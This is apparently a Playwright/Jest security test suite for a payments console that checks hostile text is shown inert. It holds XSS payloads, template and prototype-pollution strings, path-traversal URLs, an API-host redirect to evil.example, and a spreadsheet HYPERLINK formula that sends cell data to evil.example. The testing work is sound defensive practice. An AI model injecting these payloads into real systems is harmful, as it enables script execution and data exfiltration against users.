/** Hostile text through every text field that the console shows: none of it runs, moves the page, or leaves it. */
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { CHROMIUM, sayWithoutChromium } from '../support/chromium.ts';
import { routesOf } from './routes.ts';
import { fund, openAccount, transferOf } from './story.ts';
import { openBrowser, Visitor } from './visitor.ts';
import { startWorld, type World } from './world.ts';

const TIMEOUT_MS = 300_000;

const SCRIPT = '<script>globalThis.taken=1</script><img src=x onerror="globalThis.taken=1">';
const HOSTILE = [
  SCRIPT,
  '"><svg/onload=globalThis.taken=1>',
  'javascript:globalThis.taken=1',
  '{{constructor.constructor("globalThis.taken=1")()}}',
  '\u202Egnp.exe',
  'x'.repeat(200),
  '=HYPERLINK("https://evil.example/?"&A1)',
] as const;
/** Names of metadata that would change the prototype of an object that takes them over. */
const POLLUTING = JSON.parse(
  '{"__proto__":{"taken":1},"constructor":{"prototype":{"taken":1}},"note":"<b onclick=alert(1)>bold</b>"}',
) as Record<string, unknown>;

/** What hostile text has brought about on the page. */
const TAKEN = `[
  ...(globalThis.taken === undefined ? [] : ['a script ran']),
  ...(({}).taken === undefined ? [] : ['the prototype of objects has changed']),
  ...[...document.querySelectorAll('main script, main img[src=x], main svg[onload]')].map((it) => 'became an element: ' + it.outerHTML),
  ...[...document.querySelectorAll('main a')].filter((it) => it.protocol === 'javascript:').map((it) => 'runs when pressed: ' + it.href),
]`;

let world: World;
let browser: Browser;
let routes: string[];
beforeAll(async () => {
  if (CHROMIUM === undefined) return;
  [world, browser] = await Promise.all([startWorld(), openBrowser()]);
  routes = await fill(world);
}, TIMEOUT_MS);
afterAll(async () => {
  await browser?.close();
  await world?.stop();
});

sayWithoutChromium('hostile text is not tried at the console');

/** Puts hostile text wherever the contracts take text. @returns views that show it. */
async function fill({ razao, story: { ana, loja } }: World): Promise<string[]> {
  const found: string[] = [];
  for (const text of HOSTILE) {
    const account = await openAccount(razao, text.slice(0, 140), 'company');
    await fund(razao, account, 50_000);
    await razao.accounts.freeze(account, { reason: text });
    await razao.accounts.unfreeze(account, { reason: text });
    await razao.holds.place({ account_id: account, amount_cents: 100, currency: 'BRL', description: text.slice(0, 140) });
    await razao.blocks.place({
      account_id: account,
      amount: 100,
      currency: 'BRL',
      reason_code: 'OTHER',
      reference: text.slice(0, 100),
      description: text,
    });
    const payment = await razao.obligations.create({
      ...transferOf(account, loja, 100),
      match_keys: { [`key_${found.length}`]: text },
      metadata: { note: text },
      description: text.slice(0, 140),
      external_reference: text.slice(0, 100).replaceAll(/[^\x20-\x7E]/g, ''),
    });
    const outside = await razao.obligations.create({
      ...transferOf(account, loja, 100),
      rail: 'MOCK',
      creditor: { kind: 'external', external_id: `silent:${text}`.slice(0, 600) },
    });
    await razao.obligations.resolve(outside.obligation_id, { outcome: 'FAILED', reason: text });
    const credit = await razao.obligations.create({
      rail: 'MOCK',
      amount: { currency: 'BRL', value: 100 },
      debtor: { kind: 'external', external_id: 'silent' },
      creditor: { kind: 'account', account_id: account },
      match_keys: { e2e: `hostile-${found.length}` },
    });
    await razao.evidence.ingest({
      provider_id: 'mock',
      rail: 'MOCK',
      kind: 'INBOUND_CREDIT',
      external_id: `hostile-${found.length}`,
      match_keys: { e2e: `hostile-${found.length}` },
      amount: { currency: 'BRL', value: 100 },
      occurred_at: new Date().toISOString(),
      counterparty: { name: text, bank: { name: text }, account: text.slice(0, 40), pix_key: text.slice(0, 77) },
      description: text.slice(0, 140),
    });
    await razao.webhooks.createEndpoint({ url: `https://hostile-${found.length}.example.com/hooks`, description: text.slice(0, 140) });
    found.push(
      `/accounts/${account}`,
      `/accounts/${account}?tab=holds`,
      `/accounts/${account}?tab=feed`,
      `/accounts/${account}?tab=statement`,
      `/payments/${credit.obligation_id}`,
      `/payments/${payment.obligation_id}`,
      `/payments/${outside.obligation_id}`,
    );
  }
  const squad = await razao.squads.create({ actor_account_id: ana, name: SCRIPT.slice(0, 60), description: SCRIPT });
  await razao.squads.contributeToSquad(squad.sqd_id, {
    kind: 'ACCOUNTING',
    actor_account_id: ana,
    amount: { currency: 'BRL', value: 100 },
    description: SCRIPT.slice(0, 140),
    split: { method: 'EQUAL' },
  });
  const polluting = await razao.obligations.create({ ...transferOf(loja, ana, 100), metadata: POLLUTING }).catch(() => undefined);
  return [
    ...found,
    `/squads/${squad.sqd_id}`,
    ...(polluting ? [`/payments/${polluting.obligation_id}`] : []),
    ...routesOf(world.story).filter((it) => /^\/(now|accounts|payments|flow|books\?tab=acts|events\?tab=endpoints|squads)$/.test(it)),
  ];
}

(CHROMIUM === undefined ? describe.skip : describe)('hostile text', () => {
  it(
    'is text wherever it is shown',
    async () => {
      const visitor = await Visitor.open(browser, world.console);
      await visitor.signIn(world.full);
      const found: string[] = [];
      for (const route of routes) {
        await visitor.go(route);
        const faults = [...((await visitor.page.evaluate(TAKEN)) as string[]), ...(await visitor.overflow()), ...visitor.faults.splice(0)];
        found.push(...faults.map((it) => `${route}: ${it}`));
      }
      expect(found).toEqual([]);
      await visitor.close();
    },
    TIMEOUT_MS,
  );

  it(
    'in an address changes nothing',
    async () => {
      const visitor = await Visitor.open(browser, world.console);
      visitor.expected.add(404).add(422).add(400);
      await visitor.signIn(world.full);
      for (const route of [
        `/payments/${encodeURIComponent(SCRIPT)}`,
        `/search?q=${encodeURIComponent(SCRIPT)}`,
        '/accounts?__proto__=1&constructor=2',
        '/books?tab=__proto__&entry=-1',
        '/flow?from=0000-99-99&to=x',
        '/pix?tab=constructor&month=9999-99',
        `/squads/..%2F..%2Fauth`,
        '/operator?tenant=../other',
        `/${encodeURIComponent(SCRIPT)}`,
      ]) {
        await visitor.go(route);
        expect([route, await visitor.page.evaluate('globalThis.taken'), await visitor.page.evaluate('({}).taken')]).toEqual([
          route,
          undefined,
          undefined,
        ]);
      }
      expect(visitor.faults).toEqual([]);
      await visitor.close();
    },
    TIMEOUT_MS,
  );

  it(
    'cannot have the console send credentials to another host',
    async () => {
      const visitor = await Visitor.open(browser, world.console);
      await visitor.page.goto(`${world.console}?api=https://evil.example`);
      const asked: string[] = [];
      visitor.page.on('request', (request) => {
        if (request.url().includes('evil')) asked.push(request.url());
      });
      await visitor.page.locator('form.sign-in-form input:not([type])').fill(world.full.id);
      await visitor.page.locator('form.sign-in-form input[type=password]').fill(world.full.secret);
      await visitor.page.locator('form.sign-in-form button').click();
      await visitor.page.getByText('does not answer at https://evil.example').waitFor();
      expect(asked).toEqual([]);
      await visitor.close();
    },
    TIMEOUT_MS,
  );

  it('cannot frame the console', async () => {
    const { headers } = await fetch(world.console, { redirect: 'manual' });
    expect(headers.get('content-security-policy')).toContain(`frame-ancestors 'none'`);
    expect(headers.get('content-security-policy')).not.toMatch(/unsafe|\*|https?:/);
  });
});
